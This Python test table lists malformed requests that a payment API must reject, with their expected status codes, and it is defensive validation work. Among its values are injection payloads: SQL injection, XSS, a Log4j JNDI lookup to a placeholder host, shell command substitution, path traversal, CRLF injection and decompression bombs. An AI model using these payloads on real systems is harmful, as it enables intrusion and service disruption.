"""Which bad requests must every endpoint survive, and with which answer?

One row per fault. A row holds for every endpoint whose good request has what the row spoils. `feature` names what the
platform does not have yet; such a row is skipped under that name. Letters: T transport, headers and keys; J any JSON;
P payments; R captures and refunds; Q lists and filters.
"""

import bz2
import gzip
import json
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import timedelta
from urllib.parse import quote

from checkout.kit import clock
from tests.bad_inputs.calls import (
    CARD_NUMBER,
    METHOD,
    Change,
    add,
    all_of,
    drop,
    edited,
    filtered,
    header,
    method,
    named,
    on,
    path,
    posted,
    put,
    query,
    raw,
)


@dataclass(frozen=True)
class Row:
    """One fault in all its guises. `codes` are the problem codes that may name it; none means any stable code."""

    id: str
    what: str
    changes: tuple[Change, ...] = ()
    http_status: frozenset[int] = frozenset({400})
    codes: frozenset[str] = frozenset()
    feature: str = ""

    def __str__(self) -> str:
        return f"{self.id} {self.what}"


def row(id: str, what: str, change: Change, http_status: int = 400, *codes: str) -> Row:
    """A fault in one guise."""
    return each(id, what, [change], http_status, *codes)


def each(id: str, what: str, changes: Iterable[Change], http_status: int = 400, *codes: str) -> Row:
    """A fault in several guises."""
    return Row(id, what, tuple(changes), frozenset({http_status}), frozenset(codes))


def absent(id: str, what: str, feature: str) -> Row:
    """A fault of something that the platform does not have yet."""
    return Row(id, what, feature=feature)


def expiry(days: int) -> Change:
    """The card's expiry, counted from today."""
    day = clock.now() + timedelta(days=days)
    return all_of(put("payment_method.card.exp_month", day.month), put("payment_method.card.exp_year", day.year))


def add_for_create(fields: dict[str, object]) -> Change:
    """More fields in the body of a new payment."""
    return on("/v1/payments", add(fields))


KEY = "Authorization"
NUMBER, CODE, NAME = (f"payment_method.card.{name}" for name in ("number", "cvv", "holder_name"))
SECRET_KEY = "sk_test_" + "Ab3" * 15 + "z"  # in the form of ours, and nobody's
FULLWIDTH = str.maketrans("0123456789", "０１２３４５６７８９")

TRANSPORT = [
    row("T1", "no key", header(KEY, None), 401, "missing_api_key"),
    each(
        "T3",
        "a scheme that is not Bearer",
        [header(KEY, f"{scheme} sk_test_x") for scheme in ("Basic", "Token", "Bearer:")] + [header(KEY, "sk_test_x")],
        401,
        "invalid_api_key",
    ),
    each(
        "T4",
        "no key at all after the scheme, or nonsense",
        [header(KEY, "Bearer" + rest) for rest in ("", " ", " x", " " + "9" * 5000, " sk_test_é", " null")],
        401,
        "invalid_api_key",
    ),
    absent("T17", "an address outside the merchant's own list", "allow-lists of network addresses per key"),
    each("T21", "a method that is not there", [method(name) for name in ("PUT", "PATCH", "DELETE", "POST")], 405),
    each(
        "T21",
        "a method that nothing has",
        [method(name) for name in ("OPTIONS", "TRACE", "PROPFIND", CARD_NUMBER)],
        405,
    ),
    each(
        "T23",
        "no media type, or not JSON's",
        [
            posted(header("Content-Type", value))
            for value in (
                "",
                "text/plain",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/jsonp",
                "application/json, text/plain",
                "application/vnd.api+json",
                "*/*",
            )
        ],
        415,
        "unsupported_media_type",
    ),
    row(
        "T25",
        "a charset that decompresses",
        all_of(header("Content-Type", "application/json; charset=bz2_codec"), raw(bz2.compress(b" " * 9_000_000))),
        415,
        "unsupported_media_type",
    ),
    each(
        "T27",
        "another charset",
        [
            all_of(
                header("Content-Type", f"application/json; charset={charset}"),
                edited(lambda text, charset=charset: text.encode(charset)),  # type: ignore[misc]
            )
            for charset in ("utf-16", "utf-7", "utf-32", "latin-1")
        ],
        415,
        "unsupported_media_type",
    ),
    row("T28", "UTF-16 that says nothing of it", edited(lambda text: text.encode("utf-16")), 400, "invalid_json"),
    each(
        "T29",
        "a compressed body",
        [
            all_of(header("Content-Encoding", encoding), raw(gzip.compress(b"{}", mtime=0)))
            for encoding in ("gzip", "br", "deflate", "gzip, gzip")
        ],
        415,
        "unsupported_media_type",
    ),
    row(
        "T30",
        "a bomb, compressed",
        all_of(header("Content-Encoding", "gzip"), raw(gzip.compress(b" " * 9_000_000, mtime=0))),
        415,
        "unsupported_media_type",
    ),
    each("T31", "a body too long", [raw(b" " * size) for size in (65 * 1024, 3 * 1024 * 1024)], 413, "body_too_large"),
    row("T33", "a body whose length nobody says", header("Transfer-Encoding", "chunked"), 411, "length_required"),
    each(
        "T39",
        "an id that is none",
        [
            named(edit)
            for edit in (
                lambda text: text.replace("_", "_１"),
                lambda text: text[:4] + text[4:].translate(FULLWIDTH),
                lambda text: text.replace("_", "_" + "0" * 50),
                lambda text: text.replace("_", ""),
                lambda text: text.replace("_", f"_{CARD_NUMBER}_"),
                lambda text: text.replace("_", "_%00"),
                lambda text: text.replace("_", "_%0AINFO paid "),
                lambda text: text.replace("_", "_%ff"),
                lambda text: text.replace("pay_", "zzz_").replace("rfd_", "zzz_"),
                lambda text: text.replace("pay_", "att_").replace("rfd_", "pay_"),
                lambda text: text.replace("payments/", "payments/../payments/").replace("refunds/", "refunds/./"),
                lambda text: text.replace("pay_", "PAY_").replace("rfd_", "RFD_"),
            )
        ],
        404,
        "not_found",
    ),
    row("T40", "a card number as the id", named(lambda text: f"/v1/payments/{CARD_NUMBER}"), 404, "not_found"),
    each(
        "T43",
        "a query parameter that is not there",
        [
            query("amount=1"),
            query("x=1&x=2"),
            query(f"{CARD_NUMBER}=1"),
            query("=1"),
            query("%00=1"),
            query("&".join("a" * 2000)),
        ],
        400,
        "unknown_parameter",
        "invalid_request",
    ),
    row("T43.0", "more query parameters than anybody needs", query("&".join(f"p{n}=1" for n in range(1500)))),
    each(
        "T45",
        "an Idempotency-Key that is none",
        [
            posted(header("Idempotency-Key", word))
            for word in (
                "",
                '""',
                "a" * 256,
                "two words",
                "tab\tbed",
                "🔑",
                "nul\x00",
                "'; DROP TABLE payments_payment; --",
                '"half',
                "key-１",
                "a,b",
                CARD_NUMBER,
                SECRET_KEY,
            )
        ],
        400,
        "idempotency_key_invalid",
    ),
    row(
        "T46",
        "no Idempotency-Key",
        posted(header("Idempotency-Key", None)),
        400,
        "idempotency_key_required",
    ),
]

INVALID = ("invalid_json",)
JSON = [
    row("J1.1", "nothing but spaces", raw(b" \n\t "), 400, *INVALID),
    row("J1.2", "no body where one is needed", on("/v1/payments", raw(b""))),
    each(
        "J3",
        "almost JSON",
        [
            edited(lambda text: text[:-1] + ",}"),
            edited(lambda text: "{'amount': 1}"),
            edited(lambda text: "/* please */" + text),
            edited(lambda text: text + " // thanks"),
            edited(lambda text: "{amount: 1}"),
            edited(lambda text: text + "x"),
            edited(lambda text: text + text),
            edited(lambda text: text[:-1]),
            edited(lambda text: text.encode() + b"\x00"),
            edited(lambda text: "{" + "\xa0" + text[1:]),
        ],
        400,
        *INVALID,
    ),
    each("J4", "JSON, but no object", [raw(text) for text in (b"[]", b"null", b"1", b'"text"', b"true", b"[{}]")]),
    each(
        "J5",
        "a deep nest",
        [raw(text) for text in (b"[" * 5000, b'{"a":' * 5000 + b"1" + b"}" * 5000, b"[" * 9 + b"]" * 9)],
        400,
        "too_deep",
    ),
    row("J5.4", "a nest of a hundred thousand", raw(b"[" * 100_000), 413, "body_too_large"),
    row("J5.5", "brackets hidden behind an escaped quote", raw(b'{"\\"":' + b"[" * 5000), 400, "too_deep"),
    each(
        "J7",
        "a name twice",
        [
            raw(b'{"amount":1,"amount":999}'),
            raw(b'{"amount":1,"\\u0061mount":999}'),
            raw(b'{"metadata":{"a":"1","a":"2"}}'),
            raw(b'{"payment_method":{"card":{"cvv":"1","cvv":"2"}}}'),
            raw(b'[{"a":1,"a":1}]'),
        ],
        400,
        "duplicate_key",
    ),
    row("J9", "a field that is not there", add({"amont": 1}), 400, "unknown_field"),
    each(
        "J10",
        "a field that is not there, and its name is worse",
        [add({CARD_NUMBER: 1}), add({"": 1}), add({"a\nb": 1}), add({"a" * 3000: 1}), add({"__class__": 1})],
        400,
        "unknown_field",
    ),
    each(
        "J11",
        "a field that is ours to set",
        [
            add({name: value})
            for name, value in {
                "merchant": "mer_other",
                "merchant_id": "mer_other",
                "is_admin": True,
                "fee": 0,
                "id": "pay_0",
                "mode": "live",
                "gateway": "north",
                "created_at": "2020-01-01T00:00:00Z",
            }.items()
        ],
        400,
        "unknown_field",
    ),
    each(
        "J13",
        "a number that JSON does not have",
        [
            raw(b'{"amount":%s}' % word)
            for word in (b"NaN", b"Infinity", b"-Infinity", b"+1", b"01", b".5", b"1.", b"0x10")
        ],
        400,
        *INVALID,
    ),
    each(
        "J15",
        "a number without end",
        [
            raw(b'{"amount":%s}' % word)
            for word in (b"9" * 4301, b"-" + b"9" * 4301, b"1." + b"9" * 4301, b"1" + b"0" * 60_000)
        ],
        400,
        *INVALID,
    ),
    each(
        "J17",
        "an integer beyond what is exact everywhere",
        [put("amount", value) for value in (2**53, 2**53 + 1, 2**63, 2**63 - 1, -(2**63) - 1)],
        400,
        "out_of_range",
    ),
    each(
        "J19",
        "a number in another writing",
        [
            put("amount", value)
            for value in (
                "100",
                " 12 ",
                "1_000",
                "12.0",
                "0x10",
                "1,000",
                "１２",
                "١٢٣",
                1e2,
                12.0,
                12.5,
                True,
                False,
                [1],
                {"amount": 1},
            )
        ],
        400,
        "invalid",
    ),
    each(
        "J19.f",
        "a number with an exponent",
        [raw(b'{"amount":1e2}'), raw(b'{"amount":1E400}'), raw(b'{"amount":-0.0}')],
    ),
    each(
        "J21",
        "null",
        [
            put(field, None)
            for field in (
                "amount",
                "currency",
                "country",
                "capture",
                "confirm",
                "payment_method",
                "payment_method.card",
                NUMBER,
                CODE,
                NAME,
                "payment_method.type",
                "merchant_reference",
                "description",
                "customer_email",
                "metadata",
                "reason",
            )
        ],
        400,
        "null",
        "invalid_metadata",
    ),
    each(
        "J23",
        "nothing that can be seen",
        [
            put(field, text)
            for field in (
                "description",
                "reason",
                "merchant_reference",
                "customer_email",
                NAME,
                "currency",
                "country",
                NUMBER,
                CODE,
            )
            for text in ("", "   ", "\u200b\u200b", "\u3000", "\u00ad")
        ],
    ),
    each(
        "J25",
        "a word in another case",
        [
            put("currency", "eur"),
            put("currency", "Eur"),
            put("country", "de"),
            put("capture", "MANUAL"),
            put("payment_method.type", "Card"),
        ],
        400,
        "invalid_choice",
    ),
    each(
        "J27.a",
        "letters that only look alike, where machines compare",
        [
            put(field, text)
            for field in ("currency", "country", "merchant_reference", "capture")
            for text in ("ЕUR", "E\u0301UR", "ＥＵＲ", "EUR\u202e", "\ufeffEUR", "EUR ", " DE", "DE\n")
        ],
    ),
    each(
        "J27.b",
        "marks that turn or hide text",
        [
            put(field, f"Two{mark}books")
            for field in ("description", "reason", NAME)
            for mark in ("\u202e", "\u2066", "\ufeff", "\u200b", "\U000e0041", "\ue000")
        ],
        400,
        "unprintable",
    ),
    each(
        "J29",
        "NUL, or half a character",
        [add({"note": text}, inside="metadata") for text in ("a\x00b", "\x00")]
        + [add({"a\x00": "b"}, inside="metadata"), put("description", "a\x00"), put("reason", "a\x00")]
        + [raw(b'{"metadata":{"a":"\\ud800"}}'), raw(b'{"amount":["\\u0000"]}'), raw(b'{"a\\udfff":1}')],
        400,
        "invalid_json",
        "invalid",
        "invalid_request",
        "unknown_field",
        "unprintable",
    ),
    each(
        "J31",
        "a control character",
        [
            put(field, f"a{character}b")
            for field in ("description", "reason", "merchant_reference", NAME, "currency")
            for character in ("\x01", "\x1b[31m", "\x1f", "\x7f", "\u0085", "\u2028", "\r\n")
        ],
    ),
    each(
        "J31.m",
        "a control character in metadata",
        [add({"a": "\x1b"}, inside="metadata"), add({"\u2028": "a"}, inside="metadata")],
    ),
    row("J33", "a byte order mark", edited(lambda text: b"\xef\xbb\xbf" + text.encode()), 400, *INVALID),
    each(
        "J34",
        "bytes that are not UTF-8",
        [edited(lambda text: text.encode() + b"\xff"), raw(b'{"a":"\xc0\xaf"}'), raw(b'{"a":"\xed\xa0\x80"}')],
        400,
        *INVALID,
    ),
    row(
        "J35.0",
        "very many fields",
        raw(json.dumps({f"k{n}": 1 for n in range(5000)}).encode()),
        400,
        "unknown_field",
        "invalid_request",
    ),
    row(
        "J35.1",
        "far too many fields",
        raw(json.dumps({f"k{n}": 1 for n in range(150_000)}).encode()),
        413,
        "body_too_large",
    ),
    each(
        "J35.2",
        "more metadata than fits",
        [
            put("metadata", value)
            for value in ({f"k{n}": "v" for n in range(51)}, {"k" * 41: "v"}, {"k": "v" * 501}, {"": "v"}, {" ": "v"})
        ],
        400,
        "invalid_metadata",
    ),
    each(
        "J37",
        "metadata that is not flat text",
        [
            put("metadata", value)
            for value in (
                "text",
                ["a"],
                {"a": {"b": "c"}},
                {"a": 1},
                {"a": 1.5},
                {"a": True},
                {"a": None},
                {"a": ["b"]},
                7,
            )
        ],
        400,
        "invalid_metadata",
    ),
    each(
        "J39",
        "card or account data where it does not belong",
        [
            add({name: text}, inside="metadata")
            for name, text in (
                ("cvv", "123"),
                ("CVC", "123"),
                ("card-number", "x"),
                ("Card Number", "x"),
                ("cardNumber", "x"),
                ("cvv_code", "123"),
                ("security_code", "123"),
                ("cardVerificationValue", "123"),
                ("note", "%B4111111111111111^LOPEZ/ANA^3012"),
                ("note", ";4111111111111111=3012"),
                ("note", "DE89370400440532013000"),
                ("note", "DE89 3704 0044 0532 0130 00"),
                (CARD_NUMBER, "x"),
                ("note", "cvv: 123"),
                ("note", "the security code: 123"),
                ("note", SECRET_KEY),
                ("note", "whsec_" + "Ab3/" * 11),
            )
        ]
        + [
            put(field, text)
            for field in ("description", "reason", "merchant_reference", "customer_email", NAME)
            for text in (
                CARD_NUMBER,
                f"card_{CARD_NUMBER}",
                f"{CARD_NUMBER}.",
            )
        ]
        + [put("customer_email", f"{CARD_NUMBER}@example.com")]
        + [
            put(field, text)
            for field in ("description", "reason")
            for text in (
                "4242 4242 4242 4242",
                "4242-4242-4242-4242",
                "Card 4242424242424242 12/34 739",
                "Order 12 4242 4242 4242 4242",
                "order 7 4242424242424242",
                "3782 822463 10005",
                CARD_NUMBER.translate(FULLWIDTH),
                "٤٢٤٢٤٢٤٢٤٢٤٢٤٢٤٢",
                "4242\u00a04242\u00a04242\u00a04242",
                "4242  4242  4242  4242",
                "4242.4242.4242.4242",
                "4242–4242–4242–4242",
                "to=%2F%3Fcard%3D4242424242424242",
                SECRET_KEY,
                "DE89370400440532013000",
            )
        ],
    ),
    each(
        "J41",
        "an address that no mail reaches",
        [
            put("customer_email", text)
            for text in (
                "a" * 300 + "@example.com",
                "a@" + "b" * 300 + ".com",
                "a@b",
                "a@@b.com",
                "a@b@c.com",
                "x@y.z\r\nBcc: z@y.z",
                "ana@exämple.com",
                '"ana lopez"@example.com',
                "ana@example.com.",
                "ana@-example.com",
                "@example.com",
                "ana@[127.0.0.1]",
                "<ana@example.com>",
                "ana@example.com,b@c.de",
                "ana\u0000@example.com",
            )
        ],
        400,
        "invalid_email",
        "unprintable",
        "invalid",
        "invalid_json",
    ),
    each(
        "J43",
        "a country that is none",
        [put("country", text) for text in ("UK", "XX", "zz", "DEU", "D", "276", "EU", 276)],
        400,
        "invalid_choice",
    ),
    absent("J43.p", "a telephone number or a locale in no known form", "telephone numbers and locales of customers"),
    each(
        "J44",
        "a text too long",
        [
            put("description", "x" * 256),
            put("reason", "x" * 256),
            put("merchant_reference", "x" * 101),
            put(NAME, "x" * 101),
        ],
        400,
        "max_length",
    ),
    each(
        "J46",
        "a text where a text is not meant",
        [
            put(field, value)
            for field in ("description", "reason", "merchant_reference", NUMBER, CODE, NAME, "currency", "confirm")
            for value in (7, ["a"], {"a": "b"}, 1.5)
        ],
    ),
    each(
        "J46.b",
        "almost true",
        [put("confirm", value) for value in ("true", "True", 1, 0, "yes", "on", "")],
        400,
        "invalid",
    ),
    each(
        "J49",
        "a line of log, forged",
        [put(field, "ok\nINFO paid") for field in ("description", "reason", "merchant_reference", "currency")]
        + [add({"x\nINFO paid": 1})],
    ),
]

PAYMENTS = [
    each("P1", "no amount at all", [put("amount", -1), put("amount", 0)], 400, "amount_too_small"),
    row("P1.m", "the amount left out", on("/v1/payments", drop("amount")), 400, "required"),
    each(
        "P3",
        "an amount that is a typing error",
        [put("amount", 10**15), put("amount", 10**10)],
        400,
        "amount_too_large",
    ),
    each(
        "P5",
        "a fraction of a unit",
        [all_of(put("currency", "JPY"), raw(b'{"currency":"JPY","amount":1050.0}')), put("amount", 10.5)],
    ),
    each(
        "P7",
        "a currency that cannot be paid",
        [put("currency", text) for text in ("EU", "EURO", "978", "XXX", "XTS", "BTC", "HRK", "XAU", "", 978)],
        400,
        "invalid_choice",
    ),
    row("P7.m", "the currency left out", drop("currency"), 400, "required"),
    each(
        "P9",
        "a month that is none",
        [put("payment_method.card.exp_month", value) for value in (0, 13, -1, "1", "01 ", 1.0, True, 2**31)],
    ),
    each(
        "P9.y",
        "a year that is none",
        [put("payment_method.card.exp_year", value) for value in (34, 1999, 2100, 0, -1, "2034", 9999, 10**9)],
    ),
    row("P11", "a card that has expired", expiry(-45), 400, "expired_card"),
    each(
        "P13",
        "a card number that is none",
        [
            put(NUMBER, text)
            for text in (
                "42424242420",
                "42424242424242424242",
                "4242424242424241",
                "4242 4242 4242 4242",
                "4242-4242-4242-4242",
                "4242x24242424242",
                CARD_NUMBER.translate(FULLWIDTH),
                "٤٢٤٢٤٢٤٢٤٢٤٢٤٢٤٢",
                "0000000000000000",
                CARD_NUMBER + "\n",
                "4242424242424242" * 100,
            )
        ],
        400,
        "invalid_card_number",
        "unprintable",
    ),
    row("P15", "a card number that is a JSON number", put(NUMBER, int(CARD_NUMBER)), 400, "invalid"),
    each(
        "P17",
        "a verification value that cannot be",
        [put(CODE, text) for text in ("12", "12345", "abc", "1234", "１２３", "12 ", "1\u0660" + "3")]
        + [all_of(put(NUMBER, "378282246310005"), put(CODE, "123"))],
        400,
        "invalid_cvv",
    ),
    row("P17.m", "no verification value", drop(CODE), 400, "required"),
    row("P17.n", "a verification value that is a JSON number", put(CODE, 123), 400, "invalid"),
    each(
        "P19",
        "a holder's name that is none",
        [
            put(NAME, text)
            for text in ("1234567890123456", "12345", "x" * 300, "Ana 🎉", "Ana\r\nLópez", "<script>", "...", "\u0301")
        ],
    ),
    each(
        "P21",
        "two ways to pay at once",
        [add({"token": "tok_1"}, inside="payment_method"), add({"token": "tok_1"})],
        400,
        "unknown_field",
    ),
    each(
        "P22",
        "no way to pay",
        [
            put("payment_method", {}),
            put("payment_method", {"type": "card"}),
            put("payment_method.type", "sepa"),
            put("payment_method", [METHOD]),
        ],
    ),
    each(
        "P23",
        "an address that no customer should be sent to",
        [
            put("return_url", text)
            for text in (
                "http://shop.example/back",
                "javascript:alert(1)",
                "data:text/html,x",
                "//shop.example/back",
                "/back",
                "https://",
                "https://ana:secret@shop.example/",
                "https://shop.example/#there",
                "https://shop.example/\r\nX: y",
                "https://shop.example/ back",
                "https://shop.example\\@evil.example",
                "https://[::1",
                "https://shop.example:99999/",
                "https://exämple.com/",
                "https://localhost.evil.example\x00",
                f"https://shop.example/?card={CARD_NUMBER}",
                f"https://shop.example/?to=%2F%3Fcard%3D{CARD_NUMBER}",
                f"https://shop.example/?card=%20{CARD_NUMBER}",
                f"https://shop.example/?card={quote(CARD_NUMBER.translate(FULLWIDTH))}",
                f"https://shop.example/?key={SECRET_KEY}",
                "https://shop.example/" + "a" * 2000,
                7,
            )
        ],
    ),
    each("P24", "money to be taken from a card that is only to be verified", [add_for_create({"verify_only": True})]),
    each(
        "P39",
        "a state written by hand",
        [
            add({name: value})
            for name, value in {
                "status": "captured",
                "captured_amount": 1,
                "amount_captured": 1,
                "cancel_requested": True,
            }.items()
        ],
        400,
        "unknown_field",
    ),
    absent("P41", "a stale or foreign client secret", "client secrets for the customer's browser"),
    row("P43", "a customer of somebody else", add({"customer": "cus_0"}), 400, "unknown_field"),
    row("P45", "a statement descriptor", add({"statement_descriptor": "<>\\'\"*"}), 400, "unknown_field"),
    each(
        "P47",
        "a card with more in it than a card",
        [add({name: "1"}, inside="payment_method.card") for name in ("pin", "track2", "token", "last4")],
        400,
        "unknown_field",
    ),
]

CAPTURE, REFUNDS = ("/v1/payments/{payment}/capture", "/v1/payments/{payment}/refunds")


def of_what_was_paid(*values: object) -> list[Change]:
    """The amounts as what is to be captured, and as what is to be given back."""
    return [on(template, put("amount", value)) for template in (CAPTURE, REFUNDS) for value in values]


CAPTURES_AND_REFUNDS = [  # what the payment itself does not allow is in test_captures_and_refunds.py
    each("R1", "nothing to take or to give back", of_what_was_paid(0), 400, "amount_too_small"),
    each("R2", "less than nothing", of_what_was_paid(-1), 400, "amount_too_small"),
    each("R3", "an amount in quotes", of_what_was_paid("5"), 400, "invalid"),
    each("R4", "an amount with a point", of_what_was_paid(5.0), 400, "invalid"),
    absent("R17", "a refund later than its gateway makes any", "age limits of refunds per gateway"),
    absent("R19", "a refund above the limit of its key", "limits above which a key's refunds wait for approval"),
    absent("R21", "an approval given twice, too late, or to something else", "approvals of refunds"),
    each(
        "R23",
        "a refund to another card",
        [
            on(REFUNDS, add({name: value}))
            for name, value in {"payment_method": METHOD, "card": METHOD["card"], "destination": "card_0"}.items()
        ],
        400,
        "unknown_field",
    ),
    absent("R29", "less than its gateway gives back", "smallest amounts per gateway"),
]

NONSENSE = ("-1", "0", "abc", "1.5", "101", "1" + "0" * 30, "", "%20", "１", "1e2", "+1", "0x1", "%00")
LISTS = [
    each("Q1", "a limit that is none", [filtered("limit", value) for value in NONSENSE], 400, "invalid_limit"),
    each(
        "Q3",
        "a cursor that is none",
        [
            filtered(name, value)
            for name in ("starting_after", "ending_before")
            for value in (
                "",
                "abc",
                "pay_" + "0" * 22,
                "cGF5XzE=",
                "pay_" + "z" * 22,
                "x" * 10_000,
                "%ff",
                "%00",
                CARD_NUMBER,
                "att_" + "0" * 22,
            )
        ],
        400,
        "invalid_cursor",
    ),
    row(
        "Q4",
        "two cursors",
        all_of(filtered("limit", "1"), query("starting_after=pay_1&ending_before=pay_1")),
        400,
        "invalid_cursor",
    ),
    each(
        "Q5",
        "a reference that is not text",
        [filtered("merchant_reference", value) for value in ("%ff", "%00", "a%20b", "", "x" * 101, "%0A", "１")],
        400,
        "invalid_filter",
    ),
    each(
        "Q7",
        "an amount to filter by",
        [filtered("status", "captured&amount_gte=abc"), filtered("limit", "1&amount_gte=" + "9" * 41)],
        400,
        "unknown_parameter",
    ),
    each(
        "Q9",
        "a status that is none",
        [filtered("status", value) for value in ("foo", "Captured", "", "captured,authorized", "%00")],
        400,
        "invalid_filter",
    ),
    row(
        "Q9.a",
        "a list of statuses, another framework's way",
        filtered("limit", "1&status[]=captured"),
        400,
        "unknown_parameter",
    ),
    each(
        "Q9.b",
        "a parameter twice",
        [filtered(name, "1", "2") for name in ("limit", "status", "starting_after")],
        400,
        "duplicate_parameter",
    ),
    each(
        "Q10",
        "a currency or a gateway that is none",
        [
            filtered("currency", "eur"),
            filtered("currency", "EURO"),
            filtered("gateway", "'%20OR%201=1"),
            filtered("gateway", ""),
        ],
        400,
        "invalid_filter",
    ),
    each(
        "Q11",
        "fields and expansions",
        [query("fields=id"), query("expand=customer.merchant.keys"), query("expand=" + ".".join("a" * 10))],
        400,
        "unknown_parameter",
    ),
    each(
        "Q13",
        "a look-up of the framework's own",
        [
            query(text)
            for text in (
                "amount__gt=1",
                "_connector=OR%201=1",
                "_negated=1",
                "merchant__api_keys__hash__startswith=a",
                "pk=1",
                "status__in=captured",
            )
        ],
        400,
        "unknown_parameter",
    ),
    row(
        "Q15",
        "a search for a card number",
        filtered("merchant_reference", CARD_NUMBER),
        400,
        "invalid_filter",
        "card_data",
    ),
    row("Q19", "a callback for JSONP", query("callback=alert"), 400, "unknown_parameter"),
    absent("Q23", "an export of a million rows", "exports through the API"),
    each(
        "Q25",
        "a moment or a zone that is none",
        [
            filtered(name, value)
            for name in ("created_at_from", "created_at_to")
            for value in (
                "yesterday",
                "2026-01-31",
                "2026-01-31T12:00:00",
                "2026-02-30T12:00:00Z",
                "2026-01-31T25:00:00Z",
                "2026-01-31T12:00:00%2B99:99",
                "20260131T120000Z",
                "2026-W05-6T12:00:00Z",
                "２０２６-01-31T12:00:00Z",
                "0000-01-01T00:00:00Z",
                "10000-01-01T00:00:00Z",
                "",
                "1769860800",
                "2026-01-31T12:00:00Z%00",
                "2026-01-31T12:00:00Europe/Berlin",
                "..%2F..%2Fetc%2Flocaltime",
            )
        ],
        400,
        "invalid_filter",
    ),
    row("Q25.z", "a zone as a parameter", query("tz=../../etc/localtime"), 400, "unknown_parameter"),
    row("Q29", "ten thousand ids", query("ids=" + ",".join("pay_1" for _ in range(1300))), 400, "unknown_parameter"),
    absent("Q31", "an object that was archived", "archived objects"),
    each(
        "Q37",
        "a slash too many",
        [
            path(lambda text: text + "/"),
            path(lambda text: text.replace("/v1/", "/v1//")),
            path(lambda text: text + "/."),
        ],
        404,
        "not_found",
    ),
]

ROWS: list[Row] = [*TRANSPORT, *JSON, *PAYMENTS, *CAPTURES_AND_REFUNDS, *LISTS]


def hostile_texts() -> list[tuple[str, str]]:
    """Texts that are only dangerous to whoever forgets to escape them: they are kept as they are."""
    texts = {
        "J45": [
            "<script>alert(1)</script>",
            '"><img src=x onerror=alert(1)>',
            "{{7*7}}",
            "${jndi:ldap://x.y/a}",
            "<svg onload=alert(1)>",
        ],
        "J47": [
            "%s%n%d",
            "{0.__class__}",
            "%(message)s",
            "$(id)",
            "`id`",
            "=1+1",
            "'; DROP TABLE payments_payment; --",
        ],
        "J48": ["Zoë 🎉", "قهوة", "日本", "e\u0301"],
    }
    return [(f"{id}.{number}", text) for id, of_id in texts.items() for number, text in enumerate(of_id, 1)]
